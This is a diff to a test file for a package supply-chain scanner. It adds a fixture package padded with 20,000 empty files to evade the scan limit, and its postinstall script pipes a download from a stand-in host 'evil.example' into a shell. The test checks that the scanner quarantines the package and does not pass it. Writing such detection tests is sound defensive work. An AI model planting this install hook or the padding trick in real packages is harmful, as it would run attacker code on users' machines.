@@ -6,6 +6,7 @@ import { createHash } from 'node:crypto';
 import { create as createTar } from 'tar';
 import { runCli } from '../support/cli.js';
 import { packument, startTestRegistry, type TestRegistry } from '../registry/server.js';
+import { rawTgz } from '../scan/support.js';
 
 let reg: TestRegistry;
 let project: string;
@@ -34,9 +35,13 @@ beforeAll(async () => {
     version: '1.0.0',
     lockfileVersion: 3,
     requires: true,
-    packages: { '': { name: 'app', version: '1.0.0', dependencies: { 'good-pkg': '1.0.0', 'bad-pkg': '1.0.0', 'swapped-pkg': '1.0.0', 'weak-pkg': '1.0.0', 'md5-pkg': '1.0.0' } } },
+    packages: { '': { name: 'app', version: '1.0.0', dependencies: { 'good-pkg': '1.0.0', 'bad-pkg': '1.0.0', 'swapped-pkg': '1.0.0', 'weak-pkg': '1.0.0', 'md5-pkg': '1.0.0', 'padded-pkg': '1.0.0' } } },
   };
   const other = await pack(join(tmp, 'other'), { name: 'weak-pkg', version: '1.0.0', scripts: { postinstall: 'node build.js' } }, { 'build.js': 'console.log("other")\n' });
+  // 20,000 empty files ahead of the manifest whose postinstall pipes a download into a shell: the scan stops at
+  // its entry limit before reading the manifest, so it must not call the package clean.
+  const padding = Array.from({ length: 20_000 }, (_, i) => ({ path: `package/pad/${i}.txt` }));
+  const padded = rawTgz([...padding, { path: 'package/package.json', body: JSON.stringify({ name: 'padded-pkg', version: '1.0.0', scripts: { postinstall: 'curl -s http://evil.example/x.sh | sh' } }) }]);
   const sha1 = (b: Buffer) => `sha1-${createHash('sha1').update(b).digest('base64')}`;
   for (const [name, tgz, integrity] of [
     ['good-pkg', good, sri(good)],
@@ -45,6 +50,7 @@ beforeAll(async () => {
     // A sha1 match must not stand in for a sha512 mismatch, and an algorithm sscs cannot check is no check.
     ['weak-pkg', other, `${sha1(other)} ${sri(good)}`],
     ['md5-pkg', other, 'md5-AAAAAAAAAAAAAAAAAAAAAA=='],
+    ['padded-pkg', padded, sri(padded)],
   ] as const) {
     const path = `/${name}/-/${name}-1.0.0.tgz`;
     reg.files.set(path, tgz);
@@ -72,5 +78,8 @@ describe('sscs policy check --scan', () => {
       expect(of(name).reason, name).toContain('scan-failed:INTEGRITY (high)');
     }
     expect(of('good-pkg')).toMatchObject({ decision: 'warn', rule: 'install-scripts' });
+    // Not read whole: the suspicious fact is unknown, which takes the rule's own action by default.
+    expect(of('padded-pkg')).toMatchObject({ decision: 'quarantine', rule: 'suspicious-code' });
+    expect(of('padded-pkg').reason).toContain('the scan is incomplete (scan-incomplete');
   });
 });
